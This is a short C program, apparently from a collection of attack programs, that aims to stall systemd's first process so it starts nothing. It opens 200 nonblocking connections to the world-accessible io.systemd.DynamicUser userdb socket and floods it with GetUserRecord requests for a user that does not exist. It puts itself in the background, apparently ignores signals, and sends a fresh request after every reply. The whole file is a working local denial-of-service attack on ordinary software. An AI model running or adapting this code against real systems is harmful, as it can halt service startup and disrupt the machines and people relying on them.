/* Keeps systemd's first process busy, so that it starts nothing: asks it, over many connections and without waiting, for a user
   that it does not have (io.systemd.UserDatabase, which everybody may ask). */
#include "attack.h"
#include <sys/epoll.h>
#include <sys/socket.h>
#include <sys/un.h>

#define CONNECTIONS 200
#define AT_ONCE 8

static const char question[] =
    "{\"method\":\"io.systemd.UserDatabase.GetUserRecord\",\"parameters\":{\"uid\":61999,\"service\":\"io.systemd.DynamicUser\"}}";

int main(void) {
    struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = "/run/systemd/userdb/io.systemd.DynamicUser"};
    be_deaf();
    daemonize();
    int events = epoll_create1(0);
    for (int at = 0; at < CONNECTIONS; at++) {
        int connection = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (connect(connection, (struct sockaddr *)&address, sizeof address) < 0) {
            close(connection);
            continue;
        }
        struct epoll_event event = {.events = EPOLLIN, .data.fd = connection};
        epoll_ctl(events, EPOLL_CTL_ADD, connection, &event);
        for (int count = 0; count < AT_ONCE; count++)
            if (write(connection, question, sizeof question) < 0) break;
    }
    unsigned long answers = 0;
    for (;;) {
        struct epoll_event event;
        char answer[65536];
        if (epoll_wait(events, &event, 1, -1) < 1) continue;
        ssize_t length = read(event.data.fd, answer, sizeof answer);
        if (length <= 0) {
            close(event.data.fd);
            continue;
        }
        for (ssize_t at = 0; at < length; at++) {
            if (answer[at] != 0) continue;
            if (++answers % 100 == 0) prove("answers", answers);
            if (write(event.data.fd, question, sizeof question) < 0) break;
        }
    }
}
